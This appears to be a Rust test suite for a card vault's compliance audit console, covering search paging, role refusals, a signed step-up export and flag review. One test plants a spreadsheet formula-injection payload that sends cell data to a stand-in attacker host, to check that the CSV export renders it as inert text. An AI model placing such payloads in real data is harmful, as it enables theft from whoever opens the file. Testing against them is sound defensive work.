//! The compliance officer's audit console (PCI DSS 10.2.1.3, 10.3, 10.4.1): search with filters
//! and keyset paging, every read of the log audited, other roles refused (and the refusal
//! audited), the signed export behind a step-up, and the daily review's flags marked reviewed
//! with a note.

use super::{Staff, bootstrap, enrolled, user_id};
use crate::helpers::{TestApp, spawn_app};
use coffer_vault::access::Role;
use coffer_vault::audit::Origin;
use coffer_vault::audit::review::ReviewRules;
use serde_json::Value;

const PAN: &str = "4111111111111111";

fn seqs(page: &Value) -> Vec<i64> {
    page["events"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["seq"].as_i64().unwrap())
        .collect()
}

/// POSTs the export form with the member's session; returns (status, headers, body).
async fn export(staff: &Staff, form: &[(&str, &str)]) -> (u16, reqwest::header::HeaderMap, String) {
    let res = staff
        .client
        .post(format!("{}/console/audit/export", staff.base))
        .form(form)
        .send()
        .await
        .unwrap();
    let status = res.status().as_u16();
    let headers = res.headers().clone();
    (status, headers, res.text().await.unwrap())
}

/// `n` session-timeout events for `user` from `ip`, written by the vault.
async fn staff_events(app: &TestApp, user: &str, ip: &str, n: usize) {
    let origin = Origin {
        ip: Some(ip.to_owned()),
        user_agent: None,
        request_id: None,
    };
    for _ in 0..n {
        app.vault
            .record_staff_event(user, "staff.session_timeout", &origin)
            .await
            .unwrap();
    }
}

#[tokio::test]
async fn an_officer_searches_with_filters_newest_first_page_by_page_and_is_audited() {
    let app = spawn_app().await;
    let officer = enrolled(&app, "cora@example.com", &[Role::ComplianceOfficer]).await;
    bootstrap(&app, "sam@example.com", &[Role::SupportAgent]).await;
    let sam = user_id(&app, "sam@example.com").await;
    let cora = user_id(&app, "cora@example.com").await;
    staff_events(&app, &sam, "10.9.9.9", 60).await;
    staff_events(&app, &cora, "10.9.9.9", 5).await;

    // By actor (typed as an email), action and origin: Sam's 60, newest first, 50 a page.
    let filter = [
        ("actor", "Sam@Example.com"),
        ("action", "staff.session_timeout"),
        ("ip", "10.9.9.9"),
    ];
    let first = officer.ok("audit_search", &filter).await;
    let page1 = seqs(&first);
    assert_eq!(page1.len(), 50);
    assert!(page1.windows(2).all(|w| w[0] > w[1]), "newest first");
    let before = first["next_before"].as_i64().expect("a next page");
    assert_eq!(before, *page1.last().unwrap());
    for e in first["events"].as_array().unwrap() {
        assert_eq!(e["actor"], "sam@example.com");
        assert_eq!(e["action"], "staff.session_timeout");
        assert_eq!(e["origin_ip"], "10.9.9.9");
    }
    let before_text = before.to_string();
    let mut next = filter.to_vec();
    next.push(("before", before_text.as_str()));
    let second = officer.ok("audit_search", &next).await;
    let page2 = seqs(&second);
    assert_eq!(page2.len(), 10);
    assert!(page2.iter().all(|s| *s < before));
    assert!(second["next_before"].is_null());

    // A prefix and an outcome; an exact action matching nothing.
    let prefixed = officer
        .ok(
            "audit_search",
            &[
                ("action", "staff.*"),
                ("outcome", "success"),
                ("actor", &cora),
            ],
        )
        .await;
    let actions: Vec<&str> = prefixed["events"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["action"].as_str().unwrap())
        .collect();
    assert!(actions.contains(&"staff.session_timeout") && actions.len() > 5);
    assert!(actions.iter().all(|a| a.starts_with("staff.")));
    let none = officer
        .ok("audit_search", &[("action", "staff.no_such_thing")])
        .await;
    assert!(seqs(&none).is_empty());

    // A time range: from today (UTC) matches, a range ending yesterday does not.
    let today = coffer_vault::audit::review::day_name(coffer_vault::clock::now_millis());
    let dated = officer
        .ok(
            "audit_search",
            &[("from", &today), ("to", &today), ("actor", &sam)],
        )
        .await;
    assert_eq!(seqs(&dated).len(), 50);
    let old = officer
        .ok(
            "audit_search",
            &[("from", "2001-01-01"), ("to", "2001-01-02")],
        )
        .await;
    assert!(seqs(&old).is_empty());

    // Malformed filters are refused beside their field, never echoing a card number.
    for (field, value) in [
        ("from", "2026-02-30"),
        ("to", "soon"),
        ("outcome", "maybe"),
        ("before", "-1"),
        ("reason", PAN),
        ("resource", "pm_4111 1111 1111 1111"),
    ] {
        let body = officer
            .err("audit_search", &[(field, value)], "invalid_input")
            .await;
        assert_eq!(body["field"], field, "{body}");
        assert!(!body.to_string().contains("41111111"));
    }

    // One event in full, with its chain links; a missing one is 404.
    let seq = page1[0].to_string();
    let detail = officer.ok("audit_event", &[("seq", &seq)]).await;
    assert_eq!(detail["action"], "staff.session_timeout");
    assert_eq!(detail["actor_id"], sam);
    assert_eq!(detail["actor_label"], "sam@example.com");
    assert_eq!(detail["resource_type"], "staff_user");
    assert_eq!(detail["hash"].as_str().unwrap().len(), 64);
    assert_eq!(detail["prev_hash"].as_str().unwrap().len(), 64);
    officer
        .err("audit_event", &[("seq", "99999999")], "not_found")
        .await;
    let status = officer.ok("audit_status", &[]).await;
    assert!(status["head_seq"].as_i64().unwrap() >= page1[0]);
    assert!(status["verification"].is_null());

    // Every read of the log is itself in the log, with its filter.
    let audit = app.audit().await;
    let searches: Vec<_> = audit
        .iter()
        .filter(|e| e.action == "audit.search" && e.actor_id == cora)
        .collect();
    assert!(searches.len() >= 6, "{}", searches.len());
    assert!(searches.iter().all(|e| e.outcome == "success"));
    assert!(searches.iter().any(|e| {
        e.detail
            .as_deref()
            .is_some_and(|d| d.contains("staff.session_timeout") && d.contains(&sam))
    }));
    assert!(audit.iter().any(|e| e.action == "audit.read"
        && e.actor_id == cora
        && e.resource_id.as_deref() == Some(seq.as_str())));
    assert!(
        !audit
            .iter()
            .any(|e| e.detail.as_deref().is_some_and(|d| d.contains(PAN)))
    );
}

#[tokio::test]
async fn other_roles_are_refused_and_every_refusal_is_audited() {
    let app = spawn_app().await;
    let mut agent = enrolled(&app, "lee@example.com", &[Role::SupportAgent]).await;
    let lee = user_id(&app, "lee@example.com").await;
    for (endpoint, form) in [
        ("audit_search", vec![("action", "staff.*")]),
        ("audit_event", vec![("seq", "1")]),
        ("audit_status", vec![]),
        ("audit_flags", vec![("open_only", "true")]),
        ("review_flag", vec![("id", "flg_x"), ("note", "looked")]),
    ] {
        agent.err(endpoint, &form, "forbidden").await;
    }
    // The export refuses too, with a page rather than a file, even with a valid code.
    let code = agent.code().await;
    let (status, headers, body) = export(&agent, &[("format", "csv"), ("code", &code)]).await;
    assert_eq!(status, 403);
    assert!(headers.get("content-disposition").is_none());
    assert!(
        headers["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/html")
    );
    assert!(body.contains("You do not have permission"));

    let denied: Vec<String> = app
        .audit()
        .await
        .into_iter()
        .filter(|e| e.actor_id == lee && e.outcome == "denied")
        .map(|e| e.action)
        .collect();
    for action in ["audit.search", "audit.flag_review", "audit.export"] {
        assert!(denied.iter().any(|a| a == action), "{action}: {denied:?}");
    }
    assert!(denied.iter().filter(|a| *a == "audit.search").count() >= 4);
}

#[tokio::test]
async fn the_export_needs_a_step_up_and_is_signed_by_the_vault() {
    let app = spawn_app().await;
    let mut officer = enrolled(&app, "cora@example.com", &[Role::ComplianceOfficer]).await;
    bootstrap(&app, "sam@example.com", &[Role::SupportAgent]).await;
    let sam = user_id(&app, "sam@example.com").await;
    staff_events(&app, &sam, "10.1.2.3", 7).await;
    let form = [
        ("actor", "sam@example.com"),
        ("action", "staff.session_timeout"),
    ];

    // No step-up yet: refused with a page saying why, not a download.
    let mut no_code = form.to_vec();
    no_code.push(("format", "csv"));
    let (status, headers, body) = export(&officer, &no_code).await;
    assert_eq!(status, 403, "{body}");
    assert!(headers.get("content-disposition").is_none());
    assert!(body.contains("fresh code"), "{body}");
    let mut wrong = no_code.clone();
    wrong.push(("code", "000000"));
    let (status, _, body) = export(&officer, &wrong).await;
    assert_eq!(status, 403, "{body}");
    assert!(
        !app.audit()
            .await
            .iter()
            .any(|e| e.action == "audit.export" && e.outcome == "success")
    );

    // Another site cannot make the browser post the form (CSRF), even with a code.
    let res = officer
        .client
        .post(format!("{}/console/audit/export", officer.base))
        .header("sec-fetch-site", "cross-site")
        .form(&[("format", "csv"), ("code", "123456")])
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 403);
    assert!(res.headers().get("content-disposition").is_none());

    // With a fresh code: the file, signed, as a download that is never cached.
    let code = officer.code().await;
    let mut with_code = no_code.clone();
    with_code.push(("code", code.as_str()));
    let (status, headers, csv) = export(&officer, &with_code).await;
    assert_eq!(status, 200, "{csv}");
    assert!(
        headers["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/csv")
    );
    let disposition = headers["content-disposition"].to_str().unwrap();
    assert!(
        disposition.starts_with("attachment; filename=\"coffer-audit-")
            && disposition.ends_with(".csv\""),
        "{disposition}"
    );
    assert_eq!(headers["cache-control"], "no-store");
    assert!(csv.starts_with("seq,time,"));
    let last = csv.trim_end().lines().last().unwrap();
    assert!(last.starts_with("#coffer-signature "), "{last}");
    let public = app.vault.audit_public_key();
    let lines = coffer_vault::audit::export::verify(&csv, public).expect("a valid signature");
    assert_eq!(lines, 8, "the header and Sam's seven events");
    // One byte changed anywhere in the body breaks the signature.
    let mut bytes = csv.clone().into_bytes();
    let at = bytes.iter().position(|b| *b == b'1').unwrap();
    bytes[at] = b'2';
    let tampered = String::from_utf8(bytes).unwrap();
    assert!(coffer_vault::audit::export::verify(&tampered, public).is_err());

    // JSON Lines within the step-up window (no new code needed); a bad format is refused.
    let mut jsonl = form.to_vec();
    jsonl.push(("format", "jsonl"));
    let (status, headers, text) = export(&officer, &jsonl).await;
    assert_eq!(status, 200, "{text}");
    assert_eq!(headers["content-type"], "application/x-ndjson");
    assert_eq!(
        coffer_vault::audit::export::verify(&text, public).unwrap(),
        7
    );
    let first: Value = serde_json::from_str(text.lines().next().unwrap()).unwrap();
    assert_eq!(first["actor_id"], sam);
    let (status, _, _) = export(&officer, &[("format", "xlsx")]).await;
    assert_eq!(status, 400);

    let exports: Vec<_> = app
        .audit()
        .await
        .into_iter()
        .filter(|e| e.action == "audit.export" && e.outcome == "success")
        .collect();
    assert_eq!(exports.len(), 2);
    assert!(
        exports[0]
            .detail
            .as_deref()
            .unwrap()
            .contains("\"count\":7")
    );
}

#[tokio::test]
async fn a_flag_is_reviewed_once_with_a_note_recording_who_and_when() {
    let app = spawn_app().await;
    let pm = app.tokenize_card("cus_audit_1", PAN).await;
    let id = pm["id"].as_str().unwrap().to_owned();
    let officer = enrolled(&app, "cora@example.com", &[Role::ComplianceOfficer]).await;
    let agent = enrolled(&app, "lee@example.com", &[Role::SupportAgent]).await;
    let lee = user_id(&app, "lee@example.com").await;
    // Three reveals without the permission: the daily review's "repeated denied reveals".
    for _ in 0..3 {
        agent
            .err("reveal", &[("id", &id), ("reason", "curious")], "forbidden")
            .await;
    }
    let at = app
        .audit()
        .await
        .iter()
        .find(|e| e.action == "payment_method.reveal" && e.outcome == "denied")
        .unwrap()
        .occurred_at;
    let raised = app
        .vault
        .review_day(at, &ReviewRules::default())
        .await
        .unwrap();
    let flag = raised
        .iter()
        .find(|f| f.kind == "repeated_denied_reveals")
        .expect("the denied reveals are flagged");
    assert_eq!(flag.subject, lee);

    let queue = officer.ok("audit_flags", &[("open_only", "true")]).await;
    let listed = queue["flags"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["id"] == flag.id.as_str())
        .expect("the flag is in the queue")
        .clone();
    assert_eq!(listed["subject_label"], "lee@example.com");
    assert_eq!(listed["event_count"], 3);
    assert!(listed["reviewed_at"].is_null());
    let day = &queue["open_days"][0];
    assert_eq!(day["day"], flag.day.as_str());
    assert_eq!(day["open"].as_i64().unwrap(), raised.len() as i64);

    // A note is required (and bounded, and no card numbers).
    let long = "x".repeat(501);
    for note in [
        "",
        "   ",
        long.as_str(),
        "the customer read 4111 1111 1111 1111",
    ] {
        let body = officer
            .err(
                "review_flag",
                &[("id", &flag.id), ("note", note)],
                "invalid_input",
            )
            .await;
        assert_eq!(body["field"], "note");
        assert!(!body.to_string().contains("4111 1111"));
    }
    let note = "Lee tried a reveal without the grant; confirmed with the team lead, ticket 881.";
    let reviewed = officer
        .ok("review_flag", &[("id", &flag.id), ("note", note)])
        .await;
    assert_eq!(reviewed["reviewed_by"], "cora@example.com");
    assert_eq!(reviewed["review_note"], note);
    assert!(reviewed["reviewed_at"].as_str().unwrap().ends_with('Z'));
    // Once only; then it leaves the open queue but stays in the full list.
    officer
        .err(
            "review_flag",
            &[("id", &flag.id), ("note", "again")],
            "not_found",
        )
        .await;
    let open = officer.ok("audit_flags", &[("open_only", "true")]).await;
    assert!(
        !open["flags"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["id"] == flag.id.as_str())
    );
    let all = officer.ok("audit_flags", &[("open_only", "false")]).await;
    let done = all["flags"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["id"] == flag.id.as_str())
        .unwrap()
        .clone();
    assert_eq!(done["reviewed_by"], "cora@example.com");

    let cora = user_id(&app, "cora@example.com").await;
    let audit = app.audit().await;
    let event = audit
        .iter()
        .find(|e| e.action == "audit.flag_review" && e.outcome == "success")
        .expect("the review is audited");
    assert_eq!(event.actor_id, cora);
    assert_eq!(event.resource_id.as_deref(), Some(flag.id.as_str()));
    assert_eq!(event.reason.as_deref(), Some(note));
    assert!(
        audit
            .iter()
            .any(|e| e.action == "audit.flags" && e.actor_id == cora)
    );
}

#[tokio::test]
async fn a_formula_planted_in_the_log_is_text_in_the_csv_export() {
    let app = spawn_app().await;
    let mut officer = enrolled(&app, "cora@example.com", &[Role::ComplianceOfficer]).await;
    // The attacker controls what an audit event records of its request: its user agent.
    let planted = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")";
    let res = app
        .client
        .get(app.url("/api/v1/payment_methods/pm_x"))
        .bearer_auth("ak_nobody.wrong")
        .header("user-agent", planted)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 401);
    let code = officer.code().await;
    let form = [
        ("action", "auth.api_key"),
        ("format", "csv"),
        ("code", code.as_str()),
    ];
    let (status, _, csv) = export(&officer, &form).await;
    assert_eq!(status, 200, "{csv}");
    let quoted = format!("\"'{}\"", planted.replace('"', "\"\""));
    assert!(csv.contains(&quoted), "{csv}");
    // No field of any line starts with a character a spreadsheet would evaluate.
    for line in csv.lines().filter(|l| !l.starts_with('#')) {
        for field in line.split(',') {
            assert!(!field.starts_with(['=', '+', '@']), "{field} in {line}");
        }
    }
}
